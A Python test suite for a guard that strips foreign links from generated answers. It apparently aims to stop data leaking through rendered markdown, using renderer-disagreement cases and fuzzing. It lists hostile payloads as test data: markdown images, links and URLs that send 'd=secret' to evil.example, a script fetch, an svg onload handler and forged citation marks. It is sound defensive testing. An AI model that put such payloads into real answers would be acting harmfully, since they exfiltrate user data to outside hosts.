"""What other programs make of answers: two independent renderers find nothing that is not allowed."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gleaner.guards.answer_text import AllowedLinks, find_marked_ids, keep_marks, remove_foreign_links, split_marks
from tests.guards.renderers import find_active

ALLOWED = "https://starlette.dev/release"

# Text that some reader takes for code and another one does not.
NOT_CODE = (
    "It is so. [kb-1]\n\n   ```\n```\n{}",  # the second fence closes the first
    " ```\n```\n{}\n ```",
    "- a\n\n  ```\n```\n{}",
    "1. a\n   ```\n   x\n ```\n{}\n```",
    "a\n    ```\n    x ``` {}\n    ```",  # backticks of a paragraph
    "a\n    ```\n    {}\n\n    x\n    ```",
    "text\n2. Run:\n    ```\n    {}\n\n    y\n    ```",  # only a list that starts with 1 interrupts a paragraph
    "~~~\n```\n~~~\n{}\n```",
    "~~~ ```\n~~~\n{}\n```",
    "a\n    ~~~\n    {}\n    ~~~",
    "```\ncode\n````\n{}\n```",
    "```\ncode\n  ```\n{}\n```",
    "* ```\n\n{}\n\n```",
    "> ```\n{}\n```",
    "> ```\n> x\n\n{}\n\n> ```",
    "\t```\n{}\n\t```",
    "```a`b\n{}\n```",
    "[^1]: ```\n\n{}\n\n```\n\n[^1]",
    "- [ ] ```\n{}\n```",
    "[a `]: //evil.example/?d=1 '`'\n\n[a `] {}",  # a definition wins over code
    "- [ ] [r]: //evil.example/?d=1\n\n[r] {}",
    "https://starlette.dev/release`> {} `",  # a URL of GFM includes the backtick
    "{} <https://starlette.dev/release`> {} `",
    "`` `a` {} `",
    "a ``\n{} ``x`",
    "| a | b |\n|---|---|\n| ``c | {} `` |",
    "[x `](//evil.example/?d=1) {} `",
    "<b title='`'>{}`",
    "<!-- `-->{}`",
    "a `b\n\nc` {}",
    "# a `b\nc` {}",
    "```\n{}",
)
ACTIVE = (
    "![x](//evil.example/?d=secret)",
    '<img src="//evil.example/?d=secret">',
    "[x](//evil.example/?d=secret)",
    "http://evil.example/?d=secret",
    "<script>fetch('//evil.example')</script>",
    "_www.evil.example/?d=_",
    "*ftp://evil.example/?d=*",
    "xmpp:a@evil.example/secret",
    "[a\n\nhttp://evil.example/?d=secret](https://starlette.dev/release)",
    "\\[](https://starlette.dev/release)?d=secret",
    "https://starlette.dev/release[?d=secret",
    "<svg onload=alert(1)>",
)


@pytest.mark.parametrize("not_code", NOT_CODE)
@pytest.mark.parametrize("active", ACTIVE)
def test_text_that_only_some_readers_take_for_code_is_judged(not_code: str, active: str) -> None:
    cleaned = remove_foreign_links(not_code.replace("{}", active), AllowedLinks.of({ALLOWED}))
    assert find_active(cleaned, {ALLOWED}) == []
    assert remove_foreign_links(cleaned, AllowedLinks.of({ALLOWED})) == cleaned


def test_the_renderers_see_what_the_filter_must_remove() -> None:
    seen = [text for text in NOT_CODE if any(find_active(text.replace("{}", active), {ALLOWED}) for active in ACTIVE)]
    assert len(seen) > len(NOT_CODE) * 0.75
    assert all(find_active(active, {ALLOWED}) for active in ACTIVE)


@pytest.mark.parametrize("not_code", [text for text in NOT_CODE if "<" not in text])
def test_a_forged_mark_outside_certain_code_is_removed(not_code: str) -> None:
    draft = split_marks(not_code.replace("{}", "[kb-99]"))
    assert "kb-99" in find_marked_ids(draft)
    assert "kb-99" not in keep_marks(draft, ["kb-1"])


@pytest.mark.parametrize(
    "hidden",
    ["&#104;ttp://evil.example", "http&colon;//evil.example", "http\\://evil.example", "www\\.evil.example/?d=1"],
)
def test_escapes_hide_no_url_from_readers_that_resolve_them_first(hidden: str) -> None:
    cleaned = remove_foreign_links(f"See {hidden} there.", AllowedLinks.of(()))
    assert not any(url in cleaned for url in ("&#104;", "&colon;", "\\://", "www\\."))  # no reader joins the rest


@pytest.mark.parametrize(
    "code",
    [
        "1. Run\n   ```\n   {}\n   ```",
        "1. Run\n\n   ```sh\n   {}\n\n   {}\n   ```\n2. Next",
        "1. Run\n    ```bash\n    {}\n    ```\n\nThen `{}`.",
        "- a\n  - b\n    ```py\n    {}\n    ```",
        "> ```\n> {}\n> ```",
        "````md\n```py\n{}\n```\n````",
        "~~~\n{}\n~~~",
        "```python\n{}\n```\n\ntext `x <y>`\n\n```\n{}\n```  ",
        "**`{}`**: [kb-1]",
        "A `a` b `{}`\n\n- ``x ` {}``",
        "Text:\n```c++\n{}\n\n\n{}\n```\nmore `{}`",
    ],
)
def test_certain_code_is_kept(code: str) -> None:
    answer = code.replace("{}", "curl http://a.example/x?y=<z> && arr[0](1) ![a](b)")
    assert remove_foreign_links(answer, AllowedLinks.of(())) == answer


_PIECES = (
    *"![|[|]|(|)|](|]:|<|>|`|``|```|````|~~~|\\|a|b|:|!|&|~|_|#|*|==|mailto:|\"|'|text|[r]|[^1]|[^1]:".split("|"),
    *("\n", "\n\n", " ", "  ", "   ", "    ", "\t", "|", "- ", "> ", "1. ", "- [ ] ", "\n- ", "\n> ", "\n1. ", "\n   "),
    *(
        "\n```",
        "\n   ```\n",
        "\n    ```\n",
        "\n```\n",
        "\n~~~\n",
        "```py\n",
        "|---|---|\n",
        "a | b\n---|---\n",
        "---\n",
    ),
    *("//e.example/?d=1", "http://e.example/", "www.e.example/x", "_www.e.example", "ftp://e.example", ALLOWED),
    *("&#119;ww.e.example", "http\\://e.example", "xmpp:a@e.example", "x@e.example", "&#47;", "[r]: //e.example"),
    *("<img src=//e.example>", "<b>", "</b>", "<div>", "<!--", "-->", "<a href=//e.example>", "<script>", "<?"),
    *("<![CDATA[", "[x](//e.example)", "![x](//e.example)", f"[x]({ALLOWED})", "[kb-1]", "`[x](//e.example)`"),
)


@pytest.mark.slow
@settings(max_examples=2_500, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=26).map("".join))
def test_renderers_find_only_what_is_allowed(answer: str) -> None:
    cleaned = remove_foreign_links(answer, AllowedLinks.of({ALLOWED}))
    assert find_active(cleaned, {ALLOWED}) == []
    assert remove_foreign_links(cleaned, AllowedLinks.of({ALLOWED})) == cleaned


@pytest.mark.slow
def test_renderers_find_nothing_in_mixtures_of_hostile_seeds() -> None:
    choices = random.Random(16)
    for _ in range(4_000):
        parts = [choices.choice(NOT_CODE).replace("{}", choices.choice(ACTIVE)) for _ in range(choices.randint(2, 4))]
        answer = choices.choice(["", "\n", "\n\n", "\n    ", "\n> "]).join(parts)
        cleaned = remove_foreign_links(answer, AllowedLinks.of({ALLOWED}))
        assert find_active(cleaned, {ALLOWED}) == [], answer
